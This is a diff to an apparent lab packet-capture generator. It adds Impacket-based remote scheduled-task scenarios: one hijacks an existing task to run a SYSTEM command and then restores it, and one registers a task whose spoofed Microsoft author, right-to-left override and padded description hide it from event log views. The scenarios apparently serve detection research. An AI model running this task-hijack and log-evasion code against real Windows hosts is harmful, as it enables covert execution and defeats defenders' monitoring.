@@ -8,6 +8,7 @@ Only the lab address given on the command line is ever contacted.
 
 import argparse
 import base64
+import hashlib
 import json
 import struct
 import sys
@@ -435,11 +436,63 @@ def scen_sasec(a):
                 job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON, op_sequence=["SASetAccountInformation"])
 
 
+def scen_hijack(a):
+    """Task hijack as the SolarWinds intruders did it: read an existing task
+    back (SchRpcRetrieveTask), replace its definition (SchRpcRegisterTask with
+    TASK_UPDATE), run it, and put the original XML back."""
+    path = "\\TschLab\\NightlyBackup"  # seeded in the lab server (tsch_lab.SEEDED_TASKS)
+    command, arguments = "cmd.exe", "/c whoami /all > C:\\ProgramData\\nb.log 2>&1"
+    conn, dce = smb_dce(a)
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    orig = tsch.hSchRpcRetrieveTask(dce, path)["pXml"]
+    orig = orig[:-1] if orig.endswith("\x00") else orig
+    evil = task_xml(command, arguments, "S-1-5-18")
+    tsch.hSchRpcRegisterTask(dce, path, evil, tsch.TASK_UPDATE, NULL, tsch.TASK_LOGON_NONE)
+    tsch.hSchRpcRun(dce, path)
+    tsch.hSchRpcRegisterTask(dce, path, orig, tsch.TASK_UPDATE, NULL, tsch.TASK_LOGON_NONE)
+    dce.disconnect()
+    dialect = conn.getDialect()
+    conn.logoff()
+    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
+                smb_dialect="0x%04x" % dialect, task_path=path, command=command, arguments=arguments,
+                register_flags=tsch.TASK_UPDATE, original_xml=orig, task_xml=evil,
+                original_xml_sha256_utf8=hashlib.sha256(orig.encode()).hexdigest(),
+                op_sequence=["SchRpcRetrieveTask", "SchRpcRegisterTask", "SchRpcRun", "SchRpcRegisterTask"])
+
+
+# What recent Impacket options and hand-made tools put in RegistrationInfo to
+# poison the event log view: an Author claiming Microsoft outside \Microsoft\,
+# a right-to-left override and line breaks in it, and a Description padded far
+# beyond what a viewer shows.
+EVASION_AUTHOR = "Microsoft Corporation\r\n\u202eTask Scheduler"
+EVASION_DESCRIPTION = "Keeps your PC up to date." + " " * 6000 + "(c) Microsoft"
+
+
+def scen_log_evasion(a):
+    """A task whose Author and Description hide it in the event log view."""
+    path = "\\TschLab\\OneDriveStandaloneUpdate"
+    command, arguments = "powershell.exe", "-NoP -W Hidden -c whoami"
+    esc = lambda v: v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")
+    xml = task_xml(command, arguments, "S-1-5-18").replace(
+        "<Author>LAB\\alice</Author>",
+        "<Author>%s</Author>\n    <Description>%s</Description>" % (esc(EVASION_AUTHOR), esc(EVASION_DESCRIPTION)))
+    conn, dce = smb_dce(a)
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
+    dce.disconnect()
+    dialect = conn.getDialect()
+    conn.logoff()
+    return dict(interface="ITaskSchedulerService", auth_level=2, transport="ncacn_np:\\pipe\\atsvc",
+                smb_dialect="0x%04x" % dialect, task_path=path, command=command, arguments=arguments,
+                author=EVASION_AUTHOR, description_chars=len(EVASION_DESCRIPTION), register_flags=tsch.TASK_CREATE,
+                task_xml=xml, op_sequence=["SchRpcRegisterTask"])
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__)
     p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
                                                "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2",
-                                               "tcp-interleaved", "tcp-integrity"])
+                                               "tcp-interleaved", "tcp-integrity", "hijack", "log-evasion"])
     p.add_argument("--target", required=True)
     p.add_argument("--user", default="alice")
     p.add_argument("--domain", default="LAB")
@@ -475,6 +528,10 @@ def main():
         out = scen_atexec_smb1(a, sealed=False)
     elif a.scenario == "at-smb1-trans":
         out = scen_at_smb1_trans(a)
+    elif a.scenario == "hijack":
+        out = scen_hijack(a)
+    elif a.scenario == "log-evasion":
+        out = scen_log_evasion(a)
     else:
         out = scen_sasec(a)
     out.update(user=a.user, domain=a.domain, client="pcaps/gen/tsch_client.py " + a.scenario,
